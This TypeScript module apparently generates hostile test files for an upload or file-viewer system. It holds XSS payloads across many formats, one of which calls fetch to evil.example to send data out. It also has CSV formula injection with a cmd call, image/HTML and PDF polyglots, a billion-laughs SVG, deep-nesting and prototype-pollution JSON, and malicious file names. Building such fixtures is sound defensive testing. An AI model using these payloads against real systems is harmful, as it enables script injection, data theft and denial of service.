// A hundred files that want to be run: markup under every name and type, files that are two things at once, and what breaks readers.
import { gif, png, svg, wav } from './sample-files'

export interface HostileFile {
  readonly key: string
  readonly body: Buffer
  readonly contentType: string
}

/** Marks the page, speaks up, and calls out. */
const SCRIPT = 'window.hacked=1;alert(1);fetch("https://evil.example/stolen")'
const IMAGE = '<img src="https://evil.example/x.png" onerror="window.hacked=1;alert(1)">'

const MARKUP: Readonly<Record<string, string>> = {
  html: `<!doctype html><script>${SCRIPT}</script>${IMAGE}<iframe src="javascript:${SCRIPT}"></iframe>`,
  xhtml: `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${SCRIPT.replaceAll('"', "'")}"><script>${SCRIPT}</script></body></html>`,
  svg: svg(
    'red',
    `<script>${SCRIPT}</script><animate onbegin="alert(1)" attributeName="x" dur="1s"/><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${IMAGE.replace('>', '/>')}</body></foreignObject><image href="https://evil.example/x.svg"/>`
  ),
  xml: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${SCRIPT}</h:script></x>`,
  markdown: `# [x](javascript:${SCRIPT}) ![x](javascript:alert(1))\n\n<script>${SCRIPT}</script>\n\n[y]: data:text/html,<script>${SCRIPT}</script>\n${IMAGE}\n`,
  csv: `name,value\n=HYPERLINK("javascript:alert(1)"),"<script>${SCRIPT.replaceAll('"', '""')}</script>"\n@SUM(1),=cmd|' /C calc'!A0\n+1,${IMAGE}\n`,
  json: JSON.stringify({
    __proto__x: 1,
    html: `</script><script>${SCRIPT}</script>`,
    img: IMAGE,
    url: 'javascript:alert(1)'
  }),
  javascript: SCRIPT
}

const TYPES: readonly (readonly [extension: string, contentType: string])[] = [
  ['.html', 'text/html'],
  ['.svg', 'image/svg+xml'],
  ['.xml', 'application/xhtml+xml'],
  ['.txt', 'text/plain'],
  ['.md', 'text/markdown'],
  ['.csv', 'text/csv'],
  ['.json', 'application/json'],
  ['.png', 'image/png'],
  ['', 'application/javascript']
]

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const html = Buffer.from(MARKUP['html'] ?? '')

/** They begin as one thing and go on as another. */
const POLYGLOTS: Readonly<Record<string, Buffer>> = {
  'gif-html.html': Buffer.concat([gif, html]),
  'gif-js.js': latin1(`GIF89a/*\0\0*/=1;${SCRIPT}`),
  'png-html.html': Buffer.concat([png(8, 8, [0, 0, 0]), html]),
  'jpeg-html.html': Buffer.concat([latin1('\xff\xd8\xff\xfe\x02\x00'), html]),
  'bmp-js.js': latin1(`BM/*\0\0\0\0\0\0\0\0\0\0\x28\0\0\0*/=1;${SCRIPT}`),
  'pdf-html.html': Buffer.concat([latin1('%PDF-1.7\n'), html]),
  'pdf-script.pdf': latin1(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);${SCRIPT})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(javascript:alert(1))>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
  ),
  'mp4-html.html': Buffer.concat([latin1('\0\0\0\x18ftypisom'), html]),
  'wav-html.html': Buffer.concat([wav(1).subarray(0, 60), html]),
  'ogg-html.html': Buffer.concat([latin1('OggS\0\x02'), html]),
  'webm-html.html': Buffer.concat([latin1('\x1a\x45\xdf\xa3'), html]),
  'parquet-html.html': Buffer.concat([latin1('PAR1'), html, latin1('PAR1')]),
  'zip-html.html': Buffer.concat([latin1('PK\x03\x04'), html]),
  'utf16.html': Buffer.concat([latin1('\xff\xfe'), Buffer.from(MARKUP['html'] ?? '', 'utf16le')]),
  'utf7.html': latin1('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  'data-svg.svg': Buffer.from(
    svg('red', `<image href="data:image/svg+xml,${encodeURIComponent(svg('red', `<script>${SCRIPT}</script>`))}"/>`)
  )
}

const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')

/** They cost a reader time, room or its footing. */
const HEAVY: Readonly<Record<string, Buffer | string>> = {
  'huge.png': png(2, 2, [0, 0, 0], [0x7fffffff, 0x7fffffff]),
  'wide.png': png(2, 2, [0, 0, 0], [16_000, 3000]),
  'huge.gif': latin1('GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;'),
  'huge.bmp': latin1('BM\0\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\xff\xff\xff\x7f\0\0\0\x80\x01\0\x18\0'),
  'huge.avif': latin1('\0\0\0\x1cftypavif\0\0\0\x14ispe\0\0\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff'),
  'deep.json': '['.repeat(100_000) + ']'.repeat(100_000),
  'deep-objects.json': `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  'proto.json': '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
  'long-array.json': `[${'0,'.repeat(120_000)}0]`,
  'long-line.txt': 'a'.repeat(250_000),
  'columns.csv': `${','.repeat(100_000)}\n`.repeat(2),
  'quotes.csv': '"'.repeat(200_001),
  'rows.csv': ',\n'.repeat(100_000),
  'laughs.svg': `<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l12;</text></svg>`,
  'huge.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><rect width="1e9" height="1e9"/></svg>',
  'nested.svg': `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}</svg>`,
  'comments.txt': '<!-- '.repeat(50_000),
  'bidi.txt': `\u202e${SCRIPT}\u2066\ufeff\u200f`,
  'controls.txt': latin1('\x07\x1b[31m\x1b]0;x\x07\x7f'.repeat(1000)),
  'broken.pdf': latin1(`%PDF-1.7\n${'<</'.repeat(20_000)}`),
  'loop.pdf': latin1(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF'
  ),
  'empty.parquet': latin1('PAR1PAR1'),
  'footer.parquet': latin1('PAR1\xff\xff\xff\x7fPAR1'),
  'zeros.parquet': Buffer.concat([latin1('PAR1'), Buffer.alloc(5000), latin1('\x88\x13\0\0PAR1')])
}

/** Names that would be markup, or an address. */
const NAMES: readonly string[] = [
  '"><img src=x onerror=alert(1)>.txt',
  '<svg onload=alert(1)>.svg',
  'javascript:alert(1).md',
  "'-alert(1)-'.html",
  '{{constructor.constructor("alert(1)")()}}.json',
  '\u202egpj.html'
]

/** @param parquet a good one, which is damaged in some ways. @returns groups of files. */
export function hostileFiles(parquet: Uint8Array): Readonly<Record<string, readonly HostileFile[]>> {
  const file = (
    name: string,
    body: Buffer | string,
    contentType = 'text/html'
  ): Omit<HostileFile, 'key'> & { name: string } => ({
    name,
    body: Buffer.from(body as Buffer),
    contentType
  })
  const all = (files: Readonly<Record<string, Buffer | string>>) =>
    Object.entries(files).map(([name, body]) => file(name, body))
  // Always the same ones: a linear congruential generator.
  let seed = 1
  const random = (below: number): number => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) % below
  const damaged = Array.from({ length: 10 }, (_, n) => {
    const bytes = Buffer.from(parquet)
    for (let count = 0; count < 1 + n; count++) bytes[4 + random(bytes.length - 12)] = random(256)
    return file(`damaged-${n}.parquet`, bytes)
  })
  const groups = {
    'markup of one half of the kinds': markup(0).map((about) => file(...about)),
    'markup of the other half': markup(1).map((about) => file(...about)),
    'names that are markup': NAMES.map((name) => file(name, name.endsWith('.svg') ? (MARKUP['svg'] ?? '') : html)),
    'two things at once': all(POLYGLOTS),
    'what costs time, room or footing': all(HEAVY),
    'damaged Parquet': damaged
  }
  const number = (n: number): string => String(n).padStart(3, '0')
  return Object.fromEntries(
    Object.entries(groups).map(([group, files]) => [
      group,
      files.map(({ name, ...rest }, n) => ({ ...rest, key: `${number(n)}-${name}` }))
    ])
  )
}

/** Each kind of markup under each name and type. */
function markup(half: number): [name: string, body: string, contentType: string][] {
  return Object.entries(MARKUP)
    .filter((_, n) => n % 2 === half)
    .flatMap(([kind, text]) =>
      TYPES.map(([extension, type]): [string, string, string] => [`${kind}${extension}`, text, type])
    )
}
